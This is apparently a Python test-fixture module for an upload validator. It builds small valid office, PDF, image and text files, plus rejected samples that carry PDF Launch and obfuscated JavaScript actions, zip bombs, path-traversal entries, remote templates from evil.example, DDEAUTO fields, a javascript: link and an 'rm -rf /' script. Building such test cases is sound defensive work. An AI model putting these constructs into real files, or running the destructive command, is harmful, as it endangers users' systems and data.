"""Files for tests, made here: small true ones of every kind, and ones that must not be taken."""

import io
import struct
import zipfile
import zlib

from PIL import Image

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def pdf(objects=b"", *, head=b"%PDF-1.7\n", tail=b"trailer << /Root 1 0 R >>\n%%EOF\n"):
    """A PDF as far as anybody looks: a head, a catalogue, more objects, an end."""
    return head + b"1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n" + objects + tail


def packed(content, *, filters=b"/FlateDecode", more=b""):
    """An object stream that holds `content`."""
    body = zlib.compress(content) if filters else content
    filters = b"/Filter " + filters if filters else b""
    return b"9 0 obj << /Type /ObjStm /N 1 /First 4 %b %b >>\nstream\n%b\nendstream endobj\n" % (filters, more, body)


def archive(entries, *, comment=b"", method=zipfile.ZIP_DEFLATED):
    """A zip of [(name, bytes)]."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as written:
        for name, content in entries:
            written.writestr(name, content)
        written.comment = comment
    return target.getvalue()


def types(part, kind, *, more=""):
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/{part}" ContentType="{kind}"/>{more}</Types>'
    ).encode()


def relations(*rows):
    """A .rels part of (type, target, mode)."""
    written = "".join(
        f'<Relationship Id="r{number}" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        for number, (kind, target, mode) in enumerate(rows)
    )
    return f"<Relationships>{written}</Relationships>".encode()


def docx(*, body="<w:p/>", more=(), more_types="", kind=WORD, part="word/document.xml", **kwargs):
    document = f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="urn:w"><w:body>{body}</w:body></w:document>'
    return archive(
        [("[Content_Types].xml", types(part, kind, more=more_types)), (part, document.encode()), *more], **kwargs
    )


def xlsx(*, more=(), **kwargs):
    return archive(
        [
            ("[Content_Types].xml", types("xl/workbook.xml", EXCEL)),
            ("xl/workbook.xml", b'<workbook xmlns="urn:x"><sheets/></workbook>'),
            *more,
        ],
        **kwargs,
    )


def field(*words):
    """A field of Word whose instruction is cut into pieces."""
    pieces = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in words)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{pieces}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def picture(kind="PNG", size=(8, 6), mode="RGB", **kwargs):
    target = io.BytesIO()
    Image.new(mode, size, kwargs.pop("colour", 1)).save(target, kind, **kwargs)
    return target.getvalue()


def png_of(width, height):
    """The head of a PNG that says it is that large, and a little data."""

    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")


def ole():
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504


def oversized_entry():
    """A Word file one part of which unpacks to more than is taken."""
    return docx(more=[("word/media/zero.xml", b"<a>" + b" " * (49 * 1024 * 1024) + b"</a>")])


def lying_entry():
    """A Word file whose directory says less of an entry than it holds."""
    whole = bytearray(docx(more=[("word/large.xml", b"<a>" + b"x" * 100_000 + b"</a>")]))
    place = whole.rindex(b"PK\x01\x02")
    whole[place + 24 : place + 28] = struct.pack("<I", 10)
    return bytes(whole)


def locked_entry():
    whole = bytearray(docx())
    place = whole.rindex(b"PK\x01\x02")
    whole[place + 8] |= 1
    return bytes(whole)


# What is taken: name, bytes, kind.
TAKEN = {
    "pdf": ("record.pdf", pdf(), "pdf"),
    "pdf with a link": ("link.pdf", pdf(b"3 0 obj << /S /URI /URI (https://example.org) >> endobj\n"), "pdf"),
    "pdf with packed objects": ("packed.pdf", pdf(packed(b"4 0 << /Type /Page >>")), "pdf"),
    "pdf that ends with spaces": ("spaces.pdf", pdf() + b"\r\n \r\n", "pdf"),
    "word": ("note.docx", docx(), "docx"),
    "word with a link": (
        "link.docx",
        docx(
            more=[("word/_rels/document.xml.rels", relations(("hyperlink", "https://example.org/LINK", "External")))],
            body=field(" HYPERLINK ", '"https://example.org/LINK"'),
        ),
        "docx",
    ),
    "word with a mail address": (
        "mail.docx",
        docx(more=[("word/_rels/document.xml.rels", relations(("hyperlink", "mailto:a@example.org", "External")))]),
        "docx",
    ),
    "word with a picture": ("picture.docx", docx(more=[("word/media/image1.png", picture())]), "docx"),
    "word with page numbers": ("pages.docx", docx(body=field(" PAGE ")), "docx"),
    "excel": ("table.xlsx", xlsx(), "xlsx"),
    "excel with printer settings": (
        "print.xlsx",
        xlsx(more=[("xl/printerSettings/printerSettings1.bin", b"\0" * 40)]),
        "xlsx",
    ),
    "png": ("map.png", picture(), "png"),
    "png with holes": ("holes.png", picture(mode="RGBA", colour=(1, 2, 3, 4)), "png"),
    "png of sixteen bits": ("deep.png", picture(mode="I;16"), "png"),
    "jpg": ("photo.jpg", picture("JPEG"), "jpg"),
    "jpeg": ("photo.JPEG", picture("JPEG", mode="CMYK", colour=(1, 2, 3, 4)), "jpg"),
    "text": ("list.txt", "فهرست\nof things\n".encode(), "txt"),
    "text with a mark": ("mark.txt", b"\xef\xbb\xbfwords", "txt"),
    "a Persian name": ("صورت‌جلسه نشست.pdf", pdf(), "pdf"),
    "a name with two endings": ("record.v2.final.pdf", pdf(), "pdf"),
}

EXTERNAL = "word/_rels/document.xml.rels"
# What is not: name, bytes (or a function that makes them), a piece of the sentence.
REFUSED = {
    "no ending": ("record", pdf(), "no kind of file"),
    "only an ending": (".pdf", pdf(), "no kind of file"),
    "html": ("page.html", b"<html></html>", "no kind of file"),
    "svg": ("drawing.svg", b"<svg onload='x'/>", "no kind of file"),
    "an archive": ("papers.zip", archive([("a.txt", b"a")]), "no kind of file"),
    "old word": ("note.doc", ole(), "no kind of file"),
    "word with macros by name": ("note.docm", docx(), "no kind of file"),
    "a program": ("setup.exe", b"MZ", "no kind of file"),
    "double ending": ("record.pdf.exe", pdf(), "no kind of file"),
    "an ending turned round": ("record\u202efdp.exe", pdf(), "no kind of file"),
    "empty": ("empty.pdf", b"", "empty"),
    "empty text": ("empty.txt", b"", "empty"),
    "a page called pdf": ("page.pdf", b"<html><script>alert(1)</script>", "holds something else"),
    "a pdf called png": ("record.png", pdf(), "holds something else"),
    "a png called jpg": ("map.jpg", picture(), "holds something else"),
    "a pdf called docx": ("record.docx", pdf(), "holds something else"),
    "a word file called pdf": ("record.pdf", docx(), "holds something else"),
    "a word file called xlsx": ("table.xlsx", docx(), "holds something else"),
    "an excel file called docx": ("note.docx", xlsx(), "holds something else"),
    "an archive called docx": ("note.docx", archive([("a.txt", b"a")]), "holds something else"),
    "ole called docx": ("note.docx", ole(), "holds something else"),
    "a pdf called txt": ("record.txt", pdf(), "a page, a drawing"),
    # PDF
    "pdf with something before it": ("x.pdf", b"GIF89a" + pdf(), "holds something else"),
    "pdf with something behind it": ("x.pdf", pdf() + archive([("a.txt", b"a")]), "behind the end"),
    "pdf cut off": ("x.pdf", pdf(tail=b""), "cut off"),
    "pdf with a script": ("x.pdf", pdf(b"3 0 obj << /S /JavaScript /JS (app.alert) >> endobj\n"), "JavaScript"),
    "pdf with a hidden script": ("x.pdf", pdf(b"3 0 obj << /S /J#61vaScript /JS (a) >> endobj\n"), "JavaScript"),
    "pdf with a packed script": ("x.pdf", pdf(packed(b"3 0 << /S /JavaScript /JS (a) >>")), "JavaScript"),
    "pdf with a script packed and hidden": ("x.pdf", pdf(packed(b"3 0 << /S /Java#53cript >>")), "JavaScript"),
    "pdf with a script in a plain pack": ("x.pdf", pdf(packed(b"3 0 << /S /JavaScript >>", filters=b"")), "JavaScript"),
    "pdf that starts a program": ("x.pdf", pdf(b"3 0 obj << /S /Launch /F (calc.exe) >> endobj\n"), "Launch"),
    "pdf with a file inside": ("x.pdf", pdf(b"3 0 obj << /Type /EmbeddedFile >> endobj\n"), "EmbeddedFile"),
    "pdf with a list of files": ("x.pdf", pdf(b"3 0 obj << /EmbeddedFiles 4 0 R >> endobj\n"), "EmbeddedFiles"),
    "pdf with a form of its own": ("x.pdf", pdf(b"3 0 obj << /XFA 4 0 R >> endobj\n"), "XFA"),
    "pdf with a film": ("x.pdf", pdf(b"3 0 obj << /Subtype /RichMedia >> endobj\n"), "RichMedia"),
    "pdf that sends": ("x.pdf", pdf(b"3 0 obj << /S/SubmitForm /F (http://x) >> endobj\n"), "SubmitForm"),
    "pdf with a password": ("x.pdf", pdf(tail=b"trailer << /Encrypt 5 0 R >>\n%%EOF"), "locked"),
    "pdf packed twice": ("x.pdf", pdf(packed(b"a", filters=b"[/ASCII85Decode /FlateDecode]")), "cannot be checked"),
    "pdf packed by difference": (
        "x.pdf",
        pdf(packed(b"a", more=b"/DecodeParms << /Predictor 12 >>")),
        "cannot be checked",
    ),
    "pdf with a hidden pack": ("x.pdf", pdf(b"3 0 obj << /Type /Obj#53tm >> endobj\n"), "cannot be checked"),
    "pdf with a bomb in a pack": ("x.pdf", pdf(packed(b"\0" * 9 * 1024 * 1024)), "unpacks to more"),
    "pdf with a damaged pack": ("x.pdf", pdf(packed(b"a").replace(b"x\x9c", b"xx")), "damaged"),
    # Word and Excel
    "docx cut off": ("x.docx", docx()[:-40], "beside the document"),
    "docx with something before it": ("x.docx", b"PK\x03\x04 junk" + docx(), "beside the document"),
    "docx with something behind it": ("x.docx", docx() + b"%PDF-1.7", "beside the document"),
    "docx with a comment": ("x.docx", docx(comment=b"<script>"), "beside the document"),
    "docx with macros": ("x.docx", docx(more=[("word/vbaProject.bin", ole())]), "vbaProject.bin"),
    "docx with macros under another name": ("x.docx", docx(more=[("word/other.bin", ole())]), "other.bin"),
    "docx that says macros": (
        "x.docx",
        docx(kind="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "macroenabled",
    ),
    "docx with an object": ("x.docx", docx(more=[("word/embeddings/oleObject1.bin", b"a")]), "oleObject1.bin"),
    "docx with a file inside": ("x.docx", docx(more=[("word/embeddings/a.xlsx", xlsx())]), "a.xlsx"),
    "docx with an archive inside": ("x.docx", docx(more=[("word/media/a.bin", archive([("a", b"a")]))]), "a.bin"),
    "docx with a program inside": ("x.docx", docx(more=[("word/media/a.png", b"MZ\x90\0")]), "a.png"),
    "docx with a control": ("x.docx", docx(more=[("word/activeX/activeX1.xml", b"<a/>")]), "activeX1.xml"),
    "docx with a template from outside": (
        "x.docx",
        docx(more=[(EXTERNAL, relations(("attachedTemplate", "https://evil.example/t.dotm", "External")))]),
        "attachedtemplate",
    ),
    "docx with a picture from outside": (
        "x.docx",
        docx(more=[(EXTERNAL, relations(("image", "https://evil.example/p.png", "External")))]),
        "from outside (image)",
    ),
    "docx with a link to a disk": (
        "x.docx",
        docx(more=[(EXTERNAL, relations(("hyperlink", "file://server/share", "External")))]),
        "something else than a page",
    ),
    "docx with a link that runs": (
        "x.docx",
        docx(more=[(EXTERNAL, relations(("hyperlink", "javascript:alert(1)", "External")))]),
        "something else than a page",
    ),
    "docx with a field that starts a program": ("x.docx", docx(body=field(" DDE", "AUTO c:\\\\x")), "DDEAUTO"),
    "docx with a field that fetches": (
        "x.docx",
        docx(body='<w:fldSimple w:instr=" INCLUDEPICTURE http://x "/>'),
        "INCLUDEPICTURE",
    ),
    "docx with entities": (
        "x.docx",
        docx(more=[("word/a.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')]),
        "damaged",
    ),
    "docx in another encoding": (
        "x.docx",
        docx(more=[("word/a.xml", '<?xml version="1.0" encoding="utf-16"?><a/>'.encode("utf-16"))]),
        "damaged",
    ),
    "docx with a broken part": ("x.docx", docx(more=[("word/a.xml", b"<a>")]), "damaged"),
    "docx with a path that leads out": ("x.docx", docx(more=[("../../etc/passwd", b"a")]), "damaged"),
    "docx with an absolute path": ("x.docx", docx(more=[("/etc/passwd", b"a")]), "damaged"),
    "docx with one part twice": ("x.docx", docx(more=[("word/A.xml", b"<a/>"), ("word/a.xml", b"<a/>")]), "damaged"),
    "docx with a rare packing": ("x.docx", docx(method=zipfile.ZIP_BZIP2), "damaged"),
    "docx with a password": ("x.docx", locked_entry, "locked"),
    "docx that lies about a size": ("x.docx", lying_entry, "damaged"),
    "docx with very many parts": (
        "x.docx",
        lambda: docx(more=[(f"word/{number}.txt", b"") for number in range(2_001)]),
        "unpacks to more",
    ),
    "docx with a bomb": ("x.docx", oversized_entry, "unpacks to more"),
    "xlsx with links to other files": (
        "x.xlsx",
        xlsx(more=[("xl/externalLinks/externalLink1.xml", b"<a/>")]),
        "externalLink1.xml",
    ),
    "xlsx with old macros": ("x.xlsx", xlsx(more=[("xl/macrosheets/sheet1.xml", b"<a/>")]), "sheet1.xml"),
    # Pictures
    "png cut off": ("x.png", picture()[:40], "damaged"),
    "png of nothing": ("x.png", b"\x89PNG\r\n\x1a\n", "damaged"),
    "png with too many pixels": ("x.png", png_of(20_000, 20_000), "30 million"),
    "png far too large": ("x.png", png_of(400_000, 400_000), "30 million"),
    "png too long": ("x.png", png_of(20_001, 1), "20,000"),
    "jpg cut off": ("x.jpg", picture("JPEG")[:100], "damaged"),
    "jpg of nothing": ("x.jpg", b"\xff\xd8\xff\xe0", "damaged"),
    # Text
    "text in another encoding": ("x.txt", "سلام".encode("cp1256"), "not UTF-8"),
    "text of sixteen bits": ("x.txt", "words".encode("utf-16"), "not UTF-8"),
    "text with NUL": ("x.txt", b"words\x00", "no text"),
    "text with commands to a terminal": ("x.txt", b"\x1b[31mred", "no text"),
    "a page called txt": ("x.txt", b"  <!DOCTYPE html><script>alert(1)</script>", "a page, a drawing"),
    "a drawing called txt": ("x.txt", b"<svg xmlns='x' onload='alert(1)'/>", "a page, a drawing"),
    "a script called txt": ("x.txt", b"#!/bin/sh\nrm -rf /", "a page, a drawing"),
}
